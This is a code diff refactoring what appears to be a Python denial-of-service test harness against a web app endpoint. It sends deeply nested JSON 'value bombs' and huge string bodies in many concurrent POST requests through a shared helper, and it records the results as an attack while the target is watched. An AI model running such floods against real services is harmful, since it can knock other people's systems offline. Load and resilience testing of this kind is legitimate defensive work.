@@ -8,7 +8,7 @@ import threading
 import time
 import urllib.request
 from collections import Counter
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, contextmanager
 from dataclasses import dataclass, field
@@ -84,16 +84,10 @@ def send_value_bombs(
     """
     bomb = b"[" + b"[]," * values + b"0]"
 
-    def send(number: int) -> int:
-        body = b'{"data": [%s, null], "session_hash": "bomb%d"}' % (bomb, number)
-        try:
-            return httpx.post(address + path, content=body, headers=JSON, timeout=120).status_code
-        except httpx.TransportError:
-            return 0
+    def body(number: int) -> bytes:
+        return b'{"data": [%s, null], "session_hash": "bomb%d"}' % (bomb, number)
 
-    with _watched(address) as seen, ThreadPoolExecutor(at_once) as pool:
-        seen.statuses.update(pool.map(send, range(count)))
-    return seen
+    return _send_bodies(address, path, map(body, range(count)), at_once)
 
 
 def send_strings(
@@ -101,15 +95,18 @@ def send_strings(
 ) -> Attack:
     """So many bodies of one long string each, all at once."""
     body = json.dumps(["a" * size]).encode()
+    return _send_bodies(address, path, [body] * count, at_once=count)
 
-    def send(_: int) -> int:
+
+def _send_bodies(address: str, path: str, bodies: Iterable[bytes], at_once: int) -> Attack:
+    def send(body: bytes) -> int:
         try:
             return httpx.post(address + path, content=body, headers=JSON, timeout=120).status_code
         except httpx.TransportError:
             return 0
 
-    with _watched(address) as seen, ThreadPoolExecutor(count) as pool:
-        seen.statuses.update(pool.map(send, range(count)))
+    with _watched(address) as seen, ThreadPoolExecutor(at_once) as pool:
+        seen.statuses.update(pool.map(send, bodies))
     return seen
 
 
